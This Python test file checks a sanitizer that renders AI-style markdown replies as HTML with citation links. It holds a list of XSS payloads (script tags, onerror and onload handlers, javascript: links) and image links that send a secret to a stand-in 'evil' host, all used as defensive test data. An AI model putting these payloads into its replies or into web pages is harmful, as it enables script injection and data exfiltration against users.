"""What a hostile reply becomes: harmless HTML, with links to our own sources only."""

import re
from html.parser import HTMLParser

import pytest
from hostile import STRINGS
from hypothesis import example, given
from hypothesis import strategies as st

from qafd.reading.text.markdown import (
    CITED,
    LONGEST,
    answer_html,
    bracket_citations,
    numbers,
    plain_pieces,
    plain_text,
)

ALLOWED = {"p", "b", "i", "code", "pre", "ul", "ol", "li", "br", "sup", "a", "s"}
HOSTILE = [
    "![x](http://127.0.0.1:9/leak?secret=42)", "![x][1]\n\n[1]: http://evil/x.png",
    "<img src=http://evil/x.png onerror=alert(1)>", "[click](javascript:alert(1))",
    "[1](http://evil/)", "<a href='//evil'>[1]</a>", "<http://evil>", "http://evil/auto",
    "[1]: http://evil", "`<script>alert(1)</script>`", "```\n</code></pre><script>x</script>\n",
    "**<b onclick=x>**", "# <iframe src=//evil>", "- <svg onload=alert(1)>", ":material/home: $x$",
    "<!--", "&lt;script&gt;", "\u202e[1]\u202c", "[1](\nhttp://evil)", "![a](data:text/html,x)",
    "[2](#x) [\"onmouseover=alert(1)](x)", '"><script>alert(1)</script>', "*" * 5000, "[" * 5000,
    "![" * 3000, "`" * 5000, "**a" * 3000, "- " * 3000,
]


class Tags(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, text):
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def check(text):
    for tag, attributes in Tags(answer_html(text, {1, 2})).found:
        assert tag in ALLOWED
        if tag == "a":
            assert set(attributes) == {"href"}
            assert re.fullmatch(r"#source-[12]", attributes["href"] or "")
        elif tag == "s":
            assert re.fullmatch(r"There is no source \d+\.", attributes["title"] or "")
        else:
            assert attributes == {}


@pytest.mark.parametrize("text", [*HOSTILE, *STRINGS])
def test_a_hostile_reply_has_no_foreign_tag_attribute_or_link(text):
    check(text)


@given(st.lists(st.sampled_from([*HOSTILE[:22], "[1]", "[9]", "**", "*", "`", "\n", "- ", "text",
                                 "```\n", "<", ">", "\"", "&", "](", "!["]), max_size=12))
@example(["[1", "]"])
def test_no_mixture_of_hostile_pieces_does_either(pieces):
    check("".join(pieces))


@pytest.mark.parametrize(("text", "html"), [
    ("Plain.", "<p>Plain.</p>"),
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("**bold** and *it* and `x<y`", "<p><b>bold</b> and <i>it</i> and <code>x&lt;y</code></p>"),
    ("- a\n- b\n\nc", "<ul><li>a</li><li>b</li></ul><p>c</p>"),
    ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
    ("## Head\ntext", "<p><b>Head</b></p><p>text</p>"),
    ("```py\na < b\n```\nc", "<pre><code>a &lt; b</code></pre><p>c</p>"),
    ("2 * 3 * 4 = 24", "<p>2 * 3 * 4 = 24</p>"),
    ("![a map](http://evil)", "<p>a map</p>"),
    ("[text](http://evil)", "<p>[text](http://evil)</p>"),
    ("x [1, 9]", '<p>x <sup>[<a href="#source-1">1</a>, '
                 '<s title="There is no source 9.">9</s>]</sup></p>'),
    ("**bold [2]**", '<p><b>bold <sup>[<a href="#source-2">2</a>]</sup></b></p>'),
    ("", ""),
])
def test_known_markdown_is_rebuilt(text, html):
    assert answer_html(text, {1, 2}) == html


def test_a_terminal_gets_no_control_characters_and_unknown_numbers_are_marked():
    assert plain_text("a\x1b[31mb [1, 7]\u202e", {1}) == "a[31mb [1, 7: no such source]"


def test_a_reply_without_end_is_cut():
    assert len(answer_html("a" * 10 * LONGEST, set())) == LONGEST + len("<p></p>")


@pytest.mark.parametrize(("cited", "expected"), [
    ("3, 1;2", [3, 1, 2]), ("1-3", [1, 2, 3]), ("2 – 2, 7", [2, 7]), ("3-1", [3, 1]),
    ("1-20", list(range(1, 21))), ("1-21", [1, 21])])
def test_numbers_of_a_citation_keep_their_order_and_ranges_have_all(cited, expected):
    assert numbers(cited) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("By [1]: she sang.", ["1"]), ("She sang [1-3].", ["1-3"]), ("She sang 【1–2†x】.", ["1, 2"]),
    ("[1]: http://evil", []), ("a\n[2]: x", []), ("a [2](http://evil)", []), ("[2] is", ["2"])])
def test_a_colon_and_a_range_belong_to_citations(text, expected):
    assert [found[1] for found in CITED.finditer(bracket_citations(text))] == expected


@given(st.lists(st.text(alphabet="ab 1,;2[]().\n\x1b\u202eé", max_size=6), max_size=12))
@example(["So (pas", "sage ", "1", "2", " and", " 3", ")", " passages 1, ", "2 an",
          "d pa", "ge 【", "2†", "x", "】"])
@example(["So ", "[", "1", "]", " and [2,", "9", "]", "(http://evil)"])
def test_a_reply_in_pieces_is_the_reply_in_one(pieces):
    assert "".join(plain_pieces(pieces, {1, 2})) == plain_text("".join(pieces), {1, 2})


def test_a_word_is_shown_before_the_next_one_comes():
    shown = plain_pieces(iter(["In ", "Rome [", "7", "]."]), {1})
    assert [next(shown) for _ in range(4)] == ["In", " Rome", "", " [7: no such source]."]
